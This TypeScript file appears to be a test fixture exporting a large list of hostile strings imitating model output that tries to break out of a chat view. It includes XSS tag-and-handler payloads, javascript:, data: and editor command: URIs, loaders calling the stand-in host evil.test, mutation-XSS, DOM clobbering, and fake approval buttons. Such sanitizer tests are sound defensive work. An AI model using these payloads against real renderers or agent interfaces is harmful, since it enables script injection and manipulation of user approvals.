/**
 * Words of a model that was told to break out of the chat. By families, each with its variants;
 * `PWN` is the script that must not run, `http://evil.test` the address that must not be asked.
 */
const PWN = "window.pwned=1";
const URL = "http://evil.test/x";

const tags = [
  "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus", "select autofocus",
  "textarea autofocus", "details open", "marquee", "object", "embed", "button autofocus", "form", "math",
  "keygen autofocus", "style", "link", "meta", "table", "a href=#", "div contenteditable", "isindex",
];
const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "onclick", "onmouseover", "onanimationstart", "onpointerenter"];

const schemes = [
  `javascript:${PWN}`, `JaVaScRiPt:${PWN}`, `java\tscript:${PWN}`, `java\nscript:${PWN}`, ` javascript:${PWN}`,
  `\u0001javascript:${PWN}`, `javascript&colon;${PWN}`, `javascript&#58;${PWN}`, `&#106;avascript:${PWN}`,
  `java&Tab;script:${PWN}`, `java&NewLine;script:${PWN}`, `vbscript:msgbox(1)`, `data:text/html,<script>${PWN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload=${PWN}>`,
  "command:workbench.action.terminal.new", "command:agentSidecar.setKey?%5B%22x%22%5D", "vscode://evil/x",
  "vscode-insiders://evil", "vscode-resource:/etc/passwd", "blob:http://evil.test/1", "filesystem:http://evil.test/1",
  "//evil.test/x", "\\\\evil.test\\share", "ms-settings:x", "tel:1", "jar:http://evil.test!/", "view-source:http://evil.test",
  "mhtml:http://evil.test!x", "feed:javascript:1", "x-apple.systempreferences:x", "search-ms:query=x",
];
const linkForms = [
  (href: string) => `[click](${href})`,
  (href: string) => `[click](<${href}>)`,
  (href: string) => `<a href="${href}">click</a>`,
  (href: string) => `<${href}>`,
  (href: string) => `[click][r]\n\n[r]: ${href}`,
  (href: string) => `![alt](${href})`,
];

const loaders = [
  `![a](${URL})`, `![a](${URL} "t")`, `![a][r]\n\n[r]: ${URL}`, `<img src="${URL}">`, `<img srcset="${URL} 2x">`,
  `<picture><source srcset="${URL}"></picture>`, `<video poster="${URL}"></video>`, `<audio src="${URL}" autoplay></audio>`,
  `<iframe src="${URL}"></iframe>`, `<iframe srcdoc="<script>${PWN}</script>"></iframe>`, `<object data="${URL}"></object>`,
  `<embed src="${URL}">`, `<link rel=stylesheet href="${URL}">`, `<link rel=preload as=image href="${URL}">`,
  `<link rel=prefetch href="${URL}">`, `<link rel=dns-prefetch href="//evil.test">`, `<style>@import url(${URL});</style>`,
  `<style>body{background:url(${URL})}</style>`, `<div style="background:url(${URL})">x</div>`,
  `<p style="content:url(${URL});behavior:url(${URL})">x</p>`, `<table background="${URL}"><tr><td>x</table>`,
  `<body background="${URL}">`, `<input type=image src="${URL}">`, `<form action="${URL}"><button>x</button></form>`,
  `<button formaction="javascript:${PWN}">x</button>`, `<base href="${URL}">`, `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<svg><image href="${URL}"/></svg>`, `<svg><use href="${URL}#a"/></svg>`, `<svg><feImage href="${URL}"/></svg>`,
  `<svg><style>@import url(${URL});</style></svg>`, `<svg><a xlink:href="javascript:${PWN}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${PWN}"/></svg>`, `<svg><set attributeName=onmouseover to="${PWN}"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${PWN}"></iframe></foreignObject></svg>`, `<track src="${URL}">`,
  `<a ping="${URL}" href="#">x</a>`, `<script src="${URL}"></script>`, `<script>${PWN}</script>`, `<script type=module>${PWN}</script>`,
  `<template><script>${PWN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
  `<portal src="${URL}"></portal>`, `<frameset><frame src="${URL}"></frameset>`, `<applet code="${URL}"></applet>`,
  `<bgsound src="${URL}">`, `<menuitem icon="${URL}">`, `<x-webview src="${URL}"></x-webview>`,
];

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${PWN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${PWN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  `<noembed><img title="</noembed><img src onerror=${PWN}>"></noembed>`,
  `<xmp><p title="</xmp><img src=1 onerror=${PWN}>"></xmp>`,
  `<svg><desc><noscript></desc><s></s><style><a title="</style><img src onerror=${PWN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${PWN}>">`,
  `<math><annotation-xml encoding="text/html"><style></math><img src onerror=${PWN}></style>`,
  `<p id="a"><select><option><p id="b"></option></select><style><img src onerror=${PWN}></style>`,
  `<!--><img src onerror=${PWN}>-->`, `<![CDATA[<img src onerror=${PWN}>]]>`, `<?xml <img src onerror=${PWN}>?>`,
  `<img src="x\`onerror=${PWN}\`">`, `<img """><script>${PWN}</script>">`, `<<script>${PWN}//<</script>`,
  `<img src=x:x onerror\n=${PWN}>`, `<img/src=x/onerror=${PWN}>`, `<img\fsrc=x\fonerror=${PWN}>`, `<a\u00a0href=javascript:${PWN}>x</a>`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`, `\u003cscript\u003e${PWN}\u003c/script\u003e`, `&lt;script&gt;${PWN}&lt;/script&gt;`,
  `+ADw-script+AD4-${PWN}+ADw-/script+AD4-`, `<\u0000script>${PWN}</script>`, `<script\u0000>${PWN}</script>`,
];

const clobbering = ["__proto__", "constructor", "cookie", "body", "head", "createElement", "documentElement", "root", "status", "files"].flatMap(
  (name) => [`<form id="${name}"><input name="parentNode"></form>`, `<a id="${name}" name="href">x</a>`, `<img name="${name}">`],
);

const fences = [
  `\`\`\`html\n<img src=x onerror=${PWN}>\n\`\`\``, `\`\`\`<img src=x onerror=${PWN}>\nx\n\`\`\``, `\`\`\`"><script>${PWN}</script>\nx\n\`\`\``,
  `~~~js onload=${PWN}\n</code></pre><script>${PWN}</script>\n~~~`, `    <script>${PWN}</script>`, `\`<img src=x onerror=${PWN}>\``,
  `> - 1. <img src=x onerror=${PWN}>`, `| <img src=x onerror=${PWN}> | b |\n|---|---|\n| <svg onload=${PWN}> | [x](javascript:${PWN}) |`,
  `# <svg onload=${PWN}>`, `- [ ] <img src=x onerror=${PWN}>`, `~~<img src=x onerror=${PWN}>~~`, `**<img src=x onerror=${PWN}>**`,
  `[<img src=x onerror=${PWN}>](http://evil.test)`, `[x](http://evil.test "onmouseover=${PWN}")`, `[x](http://evil.test "\\"onmouseover=\\"${PWN}")`,
  `![" onerror="${PWN}](x)`, `![x](x" onerror="${PWN})`, `[a]: http://evil.test (onclick=${PWN})\n[a]`, `https://evil.test/"onmouseover="${PWN}`,
  `<https://evil.test/" onmouseover="${PWN}>`, `\${${PWN}}`, `{{constructor.constructor('${PWN}')()}}`, `<%= ${PWN} %>`,
  `\u202e)1(${PWN}`, `a\u200bjavascript:${PWN}`, `<div data-href="command:x" class="codicon" id="root">x</div>`,
  `<a data-href="command:evil" role="button" tabindex=0>x</a>`, `<i class="codicon codicon-check">x</i>`, `<span onclick="${PWN}" style="position:fixed;inset:0">x</span>`,
  `<button type=button onclick="${PWN}">Allow once</button>`, `<section role="group" aria-label="Approval"><pre>ls</pre></section>`,
];

const all = [
  ...tags.flatMap((tag, index) =>
    [0, 1, 2].map((shift) => `<${tag} ${handlers[(index + shift * 3) % handlers.length] ?? "onerror"}=${PWN}>`),
  ),
  ...schemes.flatMap((scheme) => linkForms.map((form) => form(scheme))),
  ...loaders,
  ...mutations,
  ...clobbering,
  ...fences,
];

export const HOSTILE: string[] = [...new Set(all)];
